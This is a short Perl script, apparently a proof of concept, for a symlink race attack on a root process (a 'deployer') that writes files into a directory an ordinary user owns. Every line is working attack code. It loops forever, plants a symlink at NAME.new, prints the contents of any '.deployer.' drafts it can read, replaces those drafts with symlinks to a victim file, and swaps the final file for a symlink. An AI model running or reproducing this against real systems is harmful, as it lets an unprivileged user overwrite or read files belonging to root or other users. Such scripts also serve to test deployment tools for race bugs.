#!/usr/bin/perl
# A user who owns a directory, and puts links to somebody else's file wherever root may be about to write in it.
#   swap.pl DIRECTORY NAME VICTIM   runs until it is killed; prints what it could read of a draft
use strict;
use warnings;

my ($directory, $name, $victim) = @ARGV;
chdir $directory or die "cannot enter $directory: $!\n";
$| = 1;
while (1) {
    symlink $victim, "$name.new";
    opendir my $seen, '.' or die $!;
    for my $draft (grep { /^\.deployer\./ } readdir $seen) {
        if (open my $file, '<', $draft) { local $/; print <$file> // ''; }
        unlink $draft and symlink $victim, $draft;
    }
    closedir $seen;
    if (lstat $name and not -l $name) { unlink $name; symlink $victim, $name; }
}
